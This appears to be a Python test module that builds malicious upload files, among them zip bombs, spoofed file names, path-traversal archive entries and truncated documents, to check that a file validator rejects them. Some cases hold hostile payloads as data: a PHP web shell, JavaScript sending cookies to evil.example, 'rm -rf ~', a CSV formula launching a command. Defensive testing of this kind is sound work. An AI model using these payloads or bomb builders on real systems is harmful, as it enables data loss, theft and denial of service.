"""Files that mean harm, made on the spot: (name of the case, file name, content, codes that may answer)."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.files import hostile_office, hostile_pdf, hostile_pictures
from tests.files.conftest import MOST_BYTES
from tests.files.samples import good, pdf, picture, word, word_parts, zipped
from tests.later import Content, later

Case = tuple[str, str, Content, set[str]]
TYPE, BROKEN, MISMATCH = {"file_type"}, {"file_broken"}, {"file_mismatch"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def every() -> list[Case]:
    """All of them."""
    makers = (
        types,
        liars,
        cut_off,
        limits,
        zips,
        hostile_pdf.every,
        hostile_office.every,
        hostile_pictures.every,
    )
    return [case for make in makers for case in make()]


def types() -> Iterator[Case]:
    """What is never accepted, by its own name and by that of a PDF."""
    for suffix, content in (
        ("svg", SVG),
        ("svg", b"<?xml version='1.0'?>" + SVG),
        ("html", HTML),
        ("xhtml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"),
        ("exe", b"MZ\x90\0" + bytes(200)),
        ("elf", b"\x7fELF\x02\x01\x01" + bytes(200)),
        ("macho", b"\xcf\xfa\xed\xfe" + bytes(200)),
        ("class", b"\xca\xfe\xba\xbe" + bytes(200)),
        ("sh", b"#!/bin/sh\nrm -rf ~\n"),
        ("php", b"<?php system($_GET['c']);"),
        ("js", b"fetch('https://evil.example/'+document.cookie)"),
        ("bat", b"@echo off\r\ndel *.*\r\n"),
        ("csv", b"=cmd|' /C calc'!A0,1\n"),
        ("txt", "只是文字\n".encode()),
        ("rtf", b"{\\rtf1{\\object\\objocx}}"),
        ("doc", OLE + bytes(600)),
        ("gif", b"GIF89a" + bytes(30)),
        ("bmp", b"BM" + bytes(60)),
        ("tiff", b"II*\0" + bytes(60)),
        ("heic", b"\0\0\0\x18ftypheic" + bytes(30)),
        ("mp4", b"\0\0\0\x18ftypisom" + bytes(30)),
        ("zip", zipped({"a.txt": b"a"})),
        ("jar", zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
        ("odt", zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}, zipfile.ZIP_STORED)),
        ("rar", b"Rar!\x1a\x07\x00" + bytes(30)),
        ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(30)),
        ("gz", b"\x1f\x8b\x08" + bytes(30)),
        ("xz", b"\xfd7zXZ\0" + bytes(30)),
        ("ps", b"%!PS-Adobe-3.0\n(x) run\n"),
        ("ico", b"\0\0\1\0" + bytes(60)),
        ("zeros", bytes(4096)),
        ("one byte", b"%"),
    ):
        yield f"{suffix} {content[:5]!r}", f"a.{suffix.split()[0]}", content, TYPE
        yield f"{suffix} {content[:5]!r} by the name of pdf", "a.pdf", content, TYPE


def liars() -> Iterator[Case]:
    """A good file by the name of another type."""
    files = good()
    for name, content in files.items():
        for suffix in (".pdf", ".jpg", ".png", ".docx", ".xlsx", ".exe", ".pdf.html", ".v2"):
            same = {".jpeg": ".jpg"}
            ending = "." + name.rpartition(".")[2].lower()
            if same.get(ending, ending) != suffix and name not in ("扫描.pdf", "照片.JPEG"):
                yield f"{name} as {suffix}", f"a{suffix}", content, MISMATCH
    yield "turned around by RTL", "图\u202efdp.exe", files["证件.pdf"], MISMATCH
    yield "NUL before its suffix", "a.pdf\0.exe", files["证件.pdf"], MISMATCH
    yield "line break in its suffix", "a.pdf\r\n.exe", files["证件.pdf"], MISMATCH
    yield "a long wrong suffix", "a." + "x" * 9, files["证件.pdf"], MISMATCH


def cut_off() -> Iterator[Case]:
    """Each good type, empty or not whole."""
    for name, content in good().items():
        big = picture("JPEG", (400, 300)) if name.endswith(("jpg", "JPEG")) else content
        yield f"{name} of 0 bytes", name, b"", BROKEN
        for share in (2, 3, 9):
            half = big[: len(big) - len(big) // share]
            yield (
                f"{name} without 1/{share} of its end",
                name,
                half,
                {"file_broken", "file_type", "file_unsafe"},
            )
        yield f"{name}, twice", name, content * 2, {"file_broken", "file_unsafe", "file_bomb", ""}


def limits() -> Iterator[Case]:
    """One byte more than the purpose takes."""
    room = MOST_BYTES + 1 - len(pdf(b"()"))
    yield "one byte over", "a.pdf", pdf(b"(" + b"a" * room + b")"), {"file_too_large"}
    yield "far over", "a.pdf", bytes(3 * MOST_BYTES), {"file_too_large"}


def zips() -> Iterator[Case]:
    """Archives that readers understand differently, or that grow."""
    bomb = {"file_bomb"}
    flat = later(lambda: word(more={"word/media/a.png": bytes(150_000_000)}))
    of_xml = later(lambda: word(more={"word/a.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}))
    yield "flat bomb", "a.docx", flat, bomb
    yield "flat bomb of XML", "a.docx", of_xml, bomb
    inner = zipped({"a": bytes(10_000_000)})
    yield "nested bomb", "a.docx", word(more={"word/media/a.png": inner}), {"file_unsafe"}
    yield "nested bomb by its name", "a.docx", word(more={"word/media/a.zip": inner}), {"file_unsafe"}
    entries = later(lambda: word(more={f"word/a{n}.xml": b"<a/>" for n in range(2100)}))
    yield "too many entries", "a.docx", entries, bomb
    yield "overlapping entries", "a.docx", overlapping(), bomb
    yield "declared smaller than it is", "a.docx", understated(), {"file_broken"}
    plain = word()
    yield "something before", "a.docx", b"#!/bin/sh\n" + plain, TYPE
    yield "a zip header before", "a.docx", b"PK\x03\x04" + plain, {"file_unsafe", "file_broken", "file_type"}
    yield "something after", "a.docx", plain + b"<script>", BROKEN
    yield "a comment", "a.docx", commented(plain), {"file_broken", "file_unsafe"}
    yield (
        "a second archive after",
        "a.docx",
        plain + zipped({"a": b"b"}),
        {"file_unsafe", "file_type", "file_broken"},
    )
    yield "data between entries", "a.docx", gapped(plain), {"file_unsafe"}
    for bad in (
        "../../etc/cron.d/a.xml",
        "/etc/a.xml",
        "word\\..\\a.xml",
        "C:/a.xml",
        "word/../../a.xml",
        "a\n.xml",
    ):
        yield f"entry {bad!r}", "a.docx", word(more={bad: b"<a/>"}), {"file_unsafe", "file_broken"}
    yield "same name twice", "a.docx", twice("word/document.xml"), {"file_unsafe"}
    yield "same name in capitals", "a.docx", twice("WORD/Document.XML"), {"file_unsafe"}
    yield "names that differ", "a.docx", plain.replace(b"word/document.xml", b"word/documenu.xml", 1), BROKEN
    yield "bzip2", "a.docx", zipped(word_parts(), zipfile.ZIP_BZIP2), {"file_unsafe"}
    yield "with a password", "a.docx", flagged(plain), {"file_encrypted", "file_type"}
    yield "damaged data", "a.docx", damaged(plain), BROKEN | TYPE
    yield (
        "zip64 end",
        "a.docx",
        plain[:-6] + b"\xff\xff\xff\xff" + plain[-2:],
        {"file_broken", "file_unsafe", "file_type"},
    )


def overlapping() -> bytes:
    """Two thousand entries of the directory over the same megabyte."""
    kernel = word(more={"word/media/a.png": bytes(1_000_000)})
    with zipfile.ZipFile(io.BytesIO(kernel)) as archive:
        last = archive.getinfo("word/media/a.png")
    end = struct.unpack("<4s4H2LH", kernel[-22:])
    directory = kernel[end[6] : -22]
    row = directory[directory.rfind(b"PK\x01\x02") :]
    assert last.filename.encode() in row
    rows = directory + b"".join(row.replace(b"a.png", b"%05d" % number) for number in range(1000))
    count = end[3] + 1000
    return (
        kernel[: end[6]]
        + rows
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(rows), end[6], 0)
    )


def understated() -> bytes:
    """An entry whose sizes say 10 bytes and whose data is a megabyte."""
    content = word(more={"word/media/a.png": bytes(1_000_000)})
    return content.replace(struct.pack("<L", 1_000_000), struct.pack("<L", 10))


def commented(content: bytes) -> bytes:
    """With a comment that is another file."""
    return content[:-2] + struct.pack("<H", len(HTML)) + HTML


def gapped(content: bytes) -> bytes:
    """With a kilobyte between the entries and the directory."""
    end = struct.unpack("<4s4H2LH", content[-22:])
    moved = struct.pack("<4s4H2LH", *end[:6], end[6] + 1000, 0)
    return content[: end[6]] + b"x" * 1000 + content[end[6] : -22] + moved


def twice(name: str) -> bytes:
    """With a second part of that name."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo(name)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(info, b"<a/>")
    return out.getvalue()


def flagged(content: bytes) -> bytes:
    """Entries that say they are encrypted, but for the first (the content types)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        second = archive.infolist()[1].header_offset
    end = struct.unpack("<4s4H2LH", content[-22:])
    directory = bytearray(content[end[6] : -22])
    position = directory.find(b"PK\x01\x02", 4)
    directory[position + 8] |= 1
    body = bytearray(content[: end[6]])
    body[second + 6] |= 1
    return bytes(body + directory) + content[-22:]


def damaged(content: bytes) -> bytes:
    """With bytes of the packed data changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start = archive.getinfo("word/document.xml").header_offset + 60
    return (
        content[:start] + bytes(byte ^ 0x5A for byte in content[start : start + 40]) + content[start + 40 :]
    )
